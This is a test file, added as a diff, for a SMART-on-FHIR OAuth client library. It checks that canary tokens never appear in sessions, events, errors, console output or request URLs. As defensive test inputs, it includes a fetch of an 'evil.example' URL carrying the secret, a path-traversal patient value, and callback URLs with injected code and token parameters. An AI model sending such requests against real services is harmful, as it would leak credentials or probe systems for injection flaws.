@@ -1,0 +1,164 @@
+// Secrets: to be asked for by name, and seen nowhere else.
+
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { inspect } from 'node:util';
+import { createSmartClient } from 'smart-launch';
+import { SECRET, startEhr } from './ehr.mjs';
+import { callbackOf, signIn } from './sign-in.mjs';
+
+const TOKENS = { id_token: `${SECRET}-id` };
+
+/** Everything that shows a value: none of it may show a secret. */
+function assertSilent(value, what) {
+  const shown = [
+    inspect(value, { depth: Infinity }),
+    inspect(value, { depth: Infinity, showHidden: true, getters: false }),
+    JSON.stringify(value),
+    String(value),
+    JSON.stringify({ ...value }),
+    Object.values(value ?? {}).join(),
+    JSON.stringify(structuredClonable(value)),
+    value?.stack,
+  ].join('\n');
+  assert.ok(!shown.includes(SECRET), `${what}: ${shown}`);
+}
+
+function structuredClonable(value) {
+  try {
+    return structuredClone(value);
+  } catch {
+    return null;
+  }
+}
+
+test('tokens answer to their names', async (t) => {
+  const ehr = await startEhr(t, { tokens: TOKENS });
+  const { tokenResponse } = await signIn(createSmartClient(ehr.options()));
+  assert.equal(tokenResponse.access_token, 'canary-access-1');
+  assert.equal(tokenResponse.refresh_token, 'canary-refresh-1');
+  assert.equal(tokenResponse.id_token, 'canary-id');
+  assert.equal('refresh_token' in tokenResponse, true);
+  assert.deepEqual(Object.keys(tokenResponse).sort(), ['expires_in', 'patient', 'scope', 'token_type']);
+});
+
+test('token that the server did not send is undefined', async (t) => {
+  const ehr = await startEhr(t, { tokens: { refresh_token: undefined } });
+  const session = await signIn(createSmartClient(ehr.options()));
+  assert.equal(session.tokenResponse.refresh_token, undefined);
+  assert.equal('id_token' in session.tokenResponse, false);
+  assert.equal(session.refreshable, false);
+});
+
+test('session, state and client show none', async (t) => {
+  const ehr = await startEhr(t, { tokens: TOKENS });
+  const client = createSmartClient(ehr.options());
+  const sessions = [await signIn(client), await client.refresh()];
+  for (const session of sessions) assertSilent(session, 'session');
+  assertSilent(client.getState(), 'state');
+  assertSilent(client, 'client');
+  assertSilent(await client.discover(), 'metadata');
+});
+
+test('events show none', async (t) => {
+  const ehr = await startEhr(t, { tokens: TOKENS });
+  const client = createSmartClient(ehr.options());
+  const details = [];
+  for (const name of ['signedIn', 'refreshed', 'signedOut', 'error', 'redirecting', 'request']) {
+    client.on(name, (detail) => details.push(detail));
+  }
+  await signIn(client);
+  await client.refresh();
+  await client.fetch(`Patient?secret=${SECRET}`);
+  ehr.answer('/token', { status: 400, json: { error: 'invalid_grant', ...ehr.tokenResponse() } });
+  await assert.rejects(client.refresh());
+  ehr.answer('/revoke', { status: 503 });
+  await client.logout();
+  assert.ok(details.length >= 10);
+  for (const detail of details) assertSilent(detail, 'event');
+});
+
+test('errors show none, whatever goes wrong with what', async (t) => {
+  const ehr = await startEhr(t, { tokens: TOKENS });
+  const client = createSmartClient(ehr.options({ timeoutSeconds: 1 }));
+  const errors = [];
+  const fails = async (call) =>
+    errors.push(
+      await call.then(
+        () => assert.fail('it worked'),
+        (error) => error,
+      ),
+    );
+  const tokens = ehr.tokenResponse();
+  for (const answer of [
+    { status: 400, json: { error: 'invalid_grant', ...tokens } },
+    { status: 500, body: JSON.stringify(tokens) },
+    { json: { ...tokens, token_type: `${SECRET}-type` } },
+    { json: { ...tokens, refresh_token: 7 } },
+    { json: { ...tokens, patient: `../${SECRET}` } },
+    { body: JSON.stringify(tokens) },
+    { body: `${JSON.stringify(tokens)},`, headers: { 'content-type': 'application/json' } },
+    { json: tokens, cut: true },
+    { json: tokens, stalls: true },
+    { redirect: `/elsewhere?token=${SECRET}` },
+  ]) {
+    ehr.answer('/token', answer);
+    await fails(signIn(client));
+  }
+  const callback = callbackOf(await client.authorize({ navigate: false }));
+  for (const wrong of [
+    callback.replace('state=', `state=${SECRET}`),
+    `${callback}&code=${SECRET}`,
+    `${callback}&iss=${SECRET}`,
+    `${callback}&access_token=${SECRET}`,
+    `code=${SECRET}`,
+    SECRET,
+  ]) {
+    await fails(client.ready({ callback: wrong }));
+  }
+  ehr.grant({ expires_in: 0 });
+  await signIn(client);
+  ehr.answer('/token', { status: 401, json: { error: 'invalid_client' } });
+  await fails(client.getAccessToken());
+  await fails(client.fetch(`https://evil.example/?secret=${SECRET}`));
+  await fails(createSmartClient(ehr.options({ clientId: '', redirectUri: `https://a:${SECRET}@b.example` })).ready());
+  await fails(client.authorize({ navigate: false, launch: `${SECRET}\n` }));
+  assert.equal(errors.length, 20);
+  for (const error of errors) {
+    assert.equal(error.name, 'SmartError');
+    assertSilent(error, error.code);
+  }
+});
+
+test('nothing is written to the console', async (t) => {
+  const written = [];
+  for (const method of ['debug', 'error', 'info', 'log', 'trace', 'warn']) {
+    t.mock.method(console, method, (...values) => written.push(values));
+  }
+  const ehr = await startEhr(t, { tokens: TOKENS, configuration: { grant_types_supported: 7 } });
+  const client = createSmartClient(ehr.options());
+  await assert.rejects(client.ready({ callback: 'nonsense' }));
+  await signIn(client);
+  await client.refresh();
+  ehr.answer('/token', { status: 500 });
+  await assert.rejects(client.refresh());
+  await client.logout();
+  assert.deepEqual(written, []);
+});
+
+test('secrets are in the body of requests, never in a URL', async (t) => {
+  const ehr = await startEhr(t, { tokens: TOKENS });
+  const client = createSmartClient(ehr.options());
+  await signIn(client);
+  await client.refresh();
+  await client.fetch('Patient');
+  await client.logout();
+  for (const { url, headers } of ehr.asked) {
+    assert.ok(!url.includes(SECRET), url);
+    assert.equal(headers.referer, undefined);
+    assert.equal(headers.cookie, undefined);
+    const { authorization, ...others } = headers;
+    assert.ok(!JSON.stringify(others).includes(SECRET));
+    assert.equal(authorization !== undefined, url.startsWith('/fhir/Patient'));
+  }
+});
